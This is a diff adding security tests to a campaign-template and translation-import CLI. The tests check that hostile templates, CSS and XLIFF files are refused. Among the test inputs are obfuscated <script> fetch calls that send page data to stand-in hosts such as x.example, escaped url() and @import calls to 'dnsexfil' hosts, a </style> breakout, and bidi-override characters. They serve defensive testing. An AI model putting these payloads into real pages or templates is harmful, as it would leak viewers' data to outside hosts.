@@ -1,9 +1,11 @@
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { campaignMd, listFiles, makeProject, REPO, testimonyMd, writeFiles } from '../helpers.js';
+import sharp from 'sharp';
+import { sha256 } from '../../src/util/files.js';
+import { campaignMd, listFiles, makeProject, REPO, runCli, testimonyMd, writeFiles } from '../helpers.js';
 
 /**
  * Hostile input files, written the way an attacker or a careless tool would: symbolic links out
@@ -208,5 +210,288 @@ describe('keys that reach the prototype', () => {
     const r = check({ 'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb'] }) });
     expect(r.code).toBe(2);
     expect(r.stderr).toContain('locales/ckb/c.json:3 __proto__: key "__proto__" is not allowed');
+  });
+});
+
+describe('templates are checked as what they produce', () => {
+  const SPEC = JSON.stringify({
+    description: 'x',
+    channel: 'social',
+    output: 'png',
+    formats: { sq: { width: 400, height: 400, unit: 'px' } },
+  });
+  const LOGO_CAMPAIGN = campaignMd({ id: 'c', outputs: '  - template: evil' }).replace(
+    '  accent: "#F2B705"',
+    '  accent: "#F2B705"\n  logo: assets/logo.png',
+  );
+  /**
+   * A template named evil, used by the campaign; `check` renders every page without a browser,
+   * and `build` (whose Chromium does not exist) must refuse before it would start one.
+   */
+  async function withTemplate(files: { hbs?: string; css?: string; base?: string }) {
+    writeFiles(path.join(root, 'templates', 'evil'), {
+      'template.json': SPEC,
+      'template.hbs': files.hbs ?? '<main class="page"><h1>{{t "campaign:headline"}}</h1></main>\n',
+      'style.css': files.css ?? '.page { color: var(--primary); }\n',
+    });
+    if (files.base !== undefined) writeFiles(path.join(root, 'templates', '_shared'), { 'base.css': files.base });
+    const logo = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#0b3d5c' } })
+      .png()
+      .toBuffer();
+    writeFiles(cdir(), { 'campaign.md': LOGO_CAMPAIGN, 'assets/logo.png': logo });
+    // In-process (the CLI's main on the sources): a spawned binary per case took minutes here.
+    const opts = { cwd: root, env: { CAMPAIGN_PRESS_CHROMIUM: '/nonexistent-so-rendering-would-fail' } };
+    const r = await runCli(['--root', root, 'check', 'campaigns/c', '--as-of', '2026-06-01'], opts);
+    const build = await runCli(['--root', root, 'build', 'campaigns/c', '--out', 'out', '--as-of', '2026-06-01'], opts);
+    expect(listFiles(path.join(root, 'out'))).toEqual([]);
+    return { ...r, build };
+  }
+  /** Refused at check and at build, exit 2, with the file and line that wrote it. */
+  function refused(r: Awaited<ReturnType<typeof withTemplate>>, where: RegExp, message: RegExp) {
+    for (const [cmd, out] of [
+      ['check', r],
+      ['build', r.build],
+    ] as const) {
+      expect(out.code, `${cmd}: ${out.stderr}`).toBe(2);
+      expect(out.stderr, cmd).toMatch(where);
+      expect(out.stderr, cmd).toMatch(message);
+    }
+  }
+
+  it('control: an ordinary template passes (sections, img from the asset origin, grid, custom properties, @font-face, @page, @media print)', async () => {
+    const r = await withTemplate({
+      hbs: `<main class="page grid" data-no-overflow="page">
+  <header class="top" role="banner"><img class="logo" src="{{asset campaign.brand.logo}}" alt="{{t "campaign:title"}}" width="40" height="40"></header>
+  <section class="hero" style="background-image: url({{asset campaign.brand.logo}}); --tint: {{campaign.brand.primary}}">
+    <h1 class="headline" data-fit="headline">{{t "campaign:headline"}}</h1>
+    <p class="subline" aria-label="{{t "campaign:subline"}}"><em>{{t "campaign:subline"}}</em></p>
+  </section>
+  <nav><ul><li><a href="{{url campaign.contact.url}}">{{campaign.contact.url_display}}</a></li></ul></nav>
+  <footer><figure class="qr-box">{{qr campaign.contact.url}}<figcaption>{{t "scan_qr"}}</figcaption></figure>
+    <time datetime="2026-06-01">{{date "2026-06-01"}}</time><span class="hotline" dir="ltr">{{campaign.contact.hotline}}</span></footer>
+</main>
+`,
+      css: `@font-face { font-family: "Brand"; src: url("https://assets.campaign-press.invalid/fonts/brand.woff2") format("woff2"); font-display: block; }
+@page { size: A4; margin: 0; }
+:root { --gap: clamp(4px, 2vw, 24px); --ink: oklch(30% 0.05 240); }
+.grid { display: grid; grid-template-columns: repeat(2, minmax(0, 1fr)); gap: var(--gap, 8px); }
+.hero { display: flex; flex-direction: column; padding: calc(2 * var(--gap)); min-height: min(50%, 300px); max-width: max(20rem, 40%); }
+.hero { background: linear-gradient(to bottom, rgb(0 0 0 / 0.2), hsl(200 50% 20%)), color-mix(in srgb, var(--primary) 60%, white); }
+.headline { font-family: "Brand", var(--font); transform: translate(0, 1px) rotate(1deg); }
+.top img { inline-size: 10%; aspect-ratio: 1; }
+@media print { .page { break-after: page; } }
+@supports (text-wrap: balance) { .headline { text-wrap: balance; } }
+`,
+      base: `*, *::before, *::after { box-sizing: border-box; }\n.page { position: relative; width: var(--page-w); height: var(--page-h); }\n.hotline:not(:empty)::before { content: "\\260E"; }\n`,
+    });
+    expect(r.stderr).not.toMatch(/template-unsafe|not allowed/);
+    expect(r.code, r.stderr).toBe(0);
+    // The build got past every template check and stopped only where it needs Chromium.
+    expect(r.build.stderr).not.toMatch(/template-unsafe|not allowed/);
+    expect(r.build.code).toBe(4);
+  });
+
+  it('a <script> split with {{!}} is seen after Handlebars ran, at its line', async () => {
+    const r = await withTemplate({
+      hbs: '<main class="page">\n<scr{{!}}ipt>fetch("https://x.example/"+document.title)</scr{{!}}ipt>\n</main>\n',
+    });
+    refused(r, /templates\/evil\/template\.hbs:2: <script> is not allowed in a template \(in the page the template produced\)/, /exit|/);
+  });
+
+  it('an iframe, an event handler and an SVG url() split with {{!}}, each at its line', async () => {
+    const r = await withTemplate({
+      hbs: '<main class="page">\n<ifr{{!}}ame src="{{url campaign.contact.url}}"></ifr{{!}}ame>\n<p o{{!}}nclick="x()">a</p>\n<svg><path fill="u{{!}}rl(https://x.example/p)" d="M0 0h1v1z"/></svg>\n</main>\n',
+    });
+    refused(r, /template\.hbs:2: <iframe> is not allowed/, /template\.hbs:3: attribute onclick on <p> is not allowed/);
+    expect(r.stderr).toMatch(/template\.hbs:4: url\(\) in attribute fill on <path> is not allowed/);
+  });
+
+  it('an <img> from anywhere but the asset origin', async () => {
+    const r = await withTemplate({ hbs: '<main class="page">\n\n<img src="{{url campaign.contact.url}}" alt="">\n</main>\n' });
+    refused(
+      r,
+      /template\.hbs:3: <img src> may only load campaign images through the asset helper, not "https:\/\/example\.org\/test"/,
+      /./,
+    );
+  });
+
+  for (const [what, css, line, message] of [
+    [
+      'an escaped url(',
+      '.a { color: red; }\n.page { background: u\\72l(https://x.example/a.png); }\n',
+      2,
+      /does not parse cleanly|could not read|url\(/,
+    ],
+    [
+      'an escaped url( with a quoted string',
+      '.page { background: \\75 rl("https://x.example/a.png"); }\n',
+      1,
+      /CSS function url\(\) is not allowed/,
+    ],
+    ['an escaped @import', '.a { color: red; }\n\n@\\69mport "https://x.example/a.css";\n', 3, /@import is not allowed/],
+    [
+      'image-set()',
+      '.page {\n  background-image: image-set("https://x.example/a.png" 1x);\n}\n',
+      2,
+      /CSS function image-set\(\) is not allowed/,
+    ],
+    [
+      'a </style> breakout',
+      '.page { color: red; }\n</style><iframe src="https://x.example/"></iframe><style>\n',
+      2,
+      /"<\/" in CSS could end the <style> element/,
+    ],
+    [
+      '@font-face from the network',
+      '@font-face {\n  font-family: x;\n  src: url(https://x.example/f.woff2);\n}\n',
+      3,
+      /url\(https:\/\/x\.example\/f\.woff2\) is not allowed in template CSS/,
+    ],
+    [
+      'url() to the asset origin as a user name',
+      '.page { background: url("https://assets.campaign-press.invalid@x.example/a.png"); }\n',
+      1,
+      /is not allowed/,
+    ],
+  ] as const) {
+    it(`style.css with ${what}`, async () => {
+      const r = await withTemplate({ css });
+      refused(r, new RegExp(`templates/evil/style\\.css:${line}: `), message);
+    });
+  }
+
+  it('a hostile _shared/base.css is checked too', async () => {
+    const r = await withTemplate({ base: ':root { --x: 1; }\n.page { background: url("https://dnsexfil.example/a.png"); }\n' });
+    refused(r, /templates\/_shared\/base\.css:2: url\(https:\/\/dnsexfil\.example\/a\.png\) is not allowed/, /./);
+  });
+
+  it('an escaped @import in _shared/base.css', async () => {
+    const r = await withTemplate({ base: '.page { color: red; }\n@\\69mport url(https://x.example/a.css);\n' });
+    refused(r, /templates\/_shared\/base\.css:2: @import is not allowed/, /./);
+  });
+
+  it('a style attribute is parsed as CSS', async () => {
+    const r = await withTemplate({
+      hbs: '<main class="page" style="background-image: image-set(&quot;https://x.example/a.png&quot; 1x)">x</main>\n',
+    });
+    refused(r, /template\.hbs:1: style attribute: CSS function image-set\(\) is not allowed/, /./);
+  });
+
+  it('{{log}} and {{lookup}} are not helpers; @root holds only the data', async () => {
+    await withTemplate({});
+    writeFiles(path.join(root, 'templates', 'evil'), { 'template.hbs': '<main class="page">{{log campaign.id}}</main>\n' });
+    // The real binary, whose stdout (--json) a {{log}} would write into.
+    const log = cli(['check', 'campaigns/c', '--as-of', '2026-06-01', '--json']);
+    expect(log.code).toBe(2);
+    // stdout is one JSON report and nothing else: a log line would break it.
+    const report = JSON.parse(log.stdout) as { errors: { code: string; file?: string; message: string }[] };
+    expect(report.errors.some((e) => e.file === 'templates/evil/template.hbs' && /\blog\b/.test(e.message))).toBe(true);
+    expect((await withTemplate({ hbs: '<main class="page">{{lookup campaign "id"}}</main>\n' })).code).toBe(2);
+    const root_ = await withTemplate({ hbs: '<main class="page">{{@root._ctx.lng}}</main>\n' });
+    expect(root_.code).toBe(2);
+    // The helpers' context is not in the data: @root._ctx is undefined.
+    expect(root_.stderr).toMatch(/"lng" not defined in undefined/);
+  });
+});
+
+describe('locales import through --root, run from another folder', () => {
+  /** Every byte of the project's locales and campaigns, to prove an import left them alone. */
+  function snapshot(): Map<string, string> {
+    const files = new Map<string, string>();
+    for (const dir of ['locales', 'campaigns'])
+      for (const f of listFiles(path.join(root, dir))) files.set(`${dir}/${f}`, sha256(readFileSync(path.join(root, dir, f))));
+    return files;
+  }
+  function setup() {
+    writeFiles(cdir(), {
+      'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb', 'ps'] }),
+    });
+    writeFiles(path.join(root, 'locales', 'ckb'), {
+      'c.json': `${JSON.stringify({ title: 'گەشتی سەلامەت', headline: 'ڕاستی بزانە', subline: 'دەریا ڕاستە.', cta: 'پەیوەندی بکە' }, null, 2)}\n`,
+    });
+    writeFiles(path.join(root, 'locales', 'ps'), {
+      'c.json': `${JSON.stringify({ title: 'خوندي سفر', headline: 'حقیقت وپېژنئ', subline: 'سمندر ریښتیا دی.', cta: 'زنګ ووهئ' }, null, 2)}\n`,
+    });
+  }
+  /** In-process, from `cwd` (the process moves there), with --root naming the project. */
+  const inCwd = (args: string[], cwd: string) => runCli(['--root', root, ...args], { cwd });
+  /** The CAT tool's file: an export with one target edited, saved where the translator works. */
+  async function edited(cwd: string, locale: string, format: string, unit: string, target: string): Promise<string> {
+    const r = await inCwd(['locales', 'export', '-l', locale, '--format', format], cwd);
+    expect(r.code, r.stderr).toBe(0);
+    const re = new RegExp(`(<(?:trans-unit|unit) id="${unit}"[\\s\\S]*?<target[^>]*>)[^<]*(</target>)`);
+    expect(r.stdout).toMatch(re);
+    return r.stdout.replace(re, (_m, a: string, b: string) => `${a}${target}${b}`);
+  }
+
+  const cases: [string, string, string, string, RegExp][] = [
+    ['a <script> element', 'ckb', 'xliff2', '&lt;script&gt;fetch("https://x.example/"+document.title)&lt;/script&gt;', /headline.*markup/],
+    ['a triple-stash', 'ckb', 'xliff12', '{{{campaign.body}}}', /headline/],
+    ['an RLO that would print the hotline backwards', 'ps', 'xliff2', '\u202E0000 000 057 469+', /headline.*bidi/],
+  ];
+  for (const [what, locale, format, target, message] of cases) {
+    for (const [where, cwd] of [
+      ['the parent of the project', () => path.dirname(root)],
+      ['an unrelated folder', () => outside],
+    ] as const) {
+      it(`${what} (${format}), from ${where}: exit 2, nothing written`, async () => {
+        setup();
+        const xml = await edited(cwd(), locale, format, 'headline', target);
+        // The parent folder is the shared temp folder: a name of this project's own, removed after.
+        const name = `${path.basename(root)}-from-cat.xlf`;
+        writeFileSync(path.join(cwd(), name), xml);
+        const before = snapshot();
+        const r = await inCwd(['locales', 'import', name], cwd());
+        rmSync(path.join(cwd(), name));
+        expect(r.code, r.stdout + r.stderr).toBe(2);
+        expect(r.stdout + r.stderr).toMatch(message);
+        expect(snapshot()).toEqual(before);
+      });
+    }
+  }
+
+  for (const format of ['xliff12', 'xliff2']) {
+    it(`a truncated file (${format}), from another folder: exit 2 naming the file and line, nothing written`, async () => {
+      setup();
+      const xml = await edited(outside, 'ckb', format, 'headline', 'ڕاستییەکە بزانە');
+      // Cut after the edited unit, as a failed upload would: what is left still reads as XLIFF.
+      const cut = xml.slice(0, xml.indexOf('</target>', xml.indexOf('ڕاستییەکە بزانە')) + 40);
+      writeFileSync(path.join(outside, 'cut.xlf'), cut);
+      const before = snapshot();
+      const r = await inCwd(['locales', 'import', 'cut.xlf'], outside);
+      expect(r.code).toBe(2);
+      expect(r.stderr).toMatch(
+        new RegExp(`cut\\.xlf:${cut.split('\n').length}: not a complete XLIFF file: <\\w+> \\(line \\d+\\) is never closed`),
+      );
+      expect(snapshot()).toEqual(before);
+    });
+  }
+
+  it('the real binary, run from the parent folder with --root: an RLO is refused, nothing written', () => {
+    setup();
+    const exported = cli(['locales', 'export', '-l', 'ps', '--format', 'xliff12'], path.dirname(root));
+    expect(exported.code, exported.stderr).toBe(0);
+    const xml = exported.stdout.replace(/(<trans-unit id="cta"[\s\S]*?<target[^>]*>)[^<]*/, '$1\u202Eزنګ ووهئ');
+    expect(xml).not.toBe(exported.stdout);
+    writeFileSync(path.join(path.dirname(root), `${path.basename(root)}-ps.xlf`), xml);
+    const before = snapshot();
+    const r = cli(['locales', 'import', `${path.basename(root)}-ps.xlf`], path.dirname(root));
+    rmSync(path.join(path.dirname(root), `${path.basename(root)}-ps.xlf`));
+    expect(r.code, r.stdout + r.stderr).toBe(2);
+    expect(r.stdout).toMatch(/ps\s.*c\.json\s+cta\s+bidi-override/);
+    expect(snapshot()).toEqual(before);
+  });
+
+  it('control: the same edit, harmless, is written from the same folder', async () => {
+    setup();
+    const xml = await edited(path.dirname(root), 'ckb', 'xliff2', 'headline', 'ڕاستییەکە بزانە');
+    writeFileSync(path.join(path.dirname(root), `${path.basename(root)}.xlf`), xml);
+    const before = snapshot();
+    const r = await inCwd(['locales', 'import', `${path.basename(root)}.xlf`], path.dirname(root));
+    rmSync(path.join(path.dirname(root), `${path.basename(root)}.xlf`));
+    expect(r.code, r.stdout + r.stderr).toBe(0);
+    const after = snapshot();
+    expect([...after].filter(([f, h]) => before.get(f) !== h).map(([f]) => f)).toEqual(['locales/ckb/c.json']);
+    expect(JSON.parse(readFileSync(path.join(root, 'locales', 'ckb', 'c.json'), 'utf8')).headline).toBe('ڕاستییەکە بزانە');
   });
 });
